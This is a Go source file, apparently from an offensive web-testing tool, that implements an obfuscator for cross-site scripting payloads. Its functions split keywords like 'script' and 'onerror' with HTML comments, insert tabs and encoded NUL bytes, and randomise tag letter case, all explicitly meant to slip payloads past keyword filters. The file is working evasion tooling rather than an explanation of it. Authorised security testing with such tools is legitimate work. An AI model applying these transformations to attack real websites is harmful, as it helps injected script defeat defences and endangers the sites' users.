package payloads

import (
	"math/rand"
	"strings"
	"sync"
	"time"
	"unicode"
)

// Keywords split by InjectComments.
var obfuscatedKeywords = []string{"script", "alert", "confirm", "prompt", "onerror", "onload"}

// Obfuscator rewrites payload structure to slip past keyword filters
type Obfuscator struct {
	mu  sync.Mutex
	rnd *rand.Rand
}

// NewObfuscator creates a new payload obfuscator
func NewObfuscator() *Obfuscator {
	return NewSeededObfuscator(time.Now().UnixNano())
}

// NewSeededObfuscator creates an obfuscator with a fixed random sequence.
func NewSeededObfuscator(seed int64) *Obfuscator {
	return &Obfuscator{rnd: rand.New(rand.NewSource(seed))}
}

// InjectWhitespace pads the first tag name, e.g. <svg -> <svg%09
func (o *Obfuscator) InjectWhitespace(payload string) string {
	lt := strings.IndexByte(payload, '<')
	if lt < 0 {
		return payload
	}
	end := lt + 1
	for end < len(payload) && isTagNameByte(payload[end]) {
		end++
	}
	if end == lt+1 || end == len(payload) {
		return payload
	}
	return payload[:end] + "\t" + strings.TrimLeft(payload[end:], " /")
}

// InjectNullByte adds an encoded NUL before the first '>'
func (o *Obfuscator) InjectNullByte(payload string) string {
	return strings.Replace(payload, ">", "%00>", 1)
}

// InjectComments splits known keywords with an HTML comment,
// e.g. <script> -> <scr<!--x-->ipt>
func (o *Obfuscator) InjectComments(payload string) string {
	out := payload
	for _, kw := range obfuscatedKeywords {
		if !strings.Contains(out, kw) {
			continue
		}
		half := len(kw) / 2
		out = strings.Replace(out, kw, kw[:half]+"<!--x-->"+kw[half:], 1)
	}
	return out
}

// RandomCase varies the case of letters inside tags, e.g. <script> -> <ScRiPt>
func (o *Obfuscator) RandomCase(payload string) string {
	o.mu.Lock()
	defer o.mu.Unlock()

	var sb strings.Builder
	inTag := false
	for _, r := range payload {
		switch {
		case r == '<':
			inTag = true
		case r == '>':
			inTag = false
		case inTag && o.rnd.Intn(2) == 0:
			r = unicode.ToUpper(r)
		case inTag:
			r = unicode.ToLower(r)
		}
		sb.WriteRune(r)
	}
	return sb.String()
}

// Variants returns the obfuscated forms of payload that differ from it.
func (o *Obfuscator) Variants(payload string) []string {
	var out []string
	for _, v := range []string{
		o.InjectWhitespace(payload),
		o.InjectNullByte(payload),
		o.InjectComments(payload),
		o.RandomCase(payload),
	} {
		if v != payload {
			out = append(out, v)
		}
	}
	return out
}

func isTagNameByte(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
}
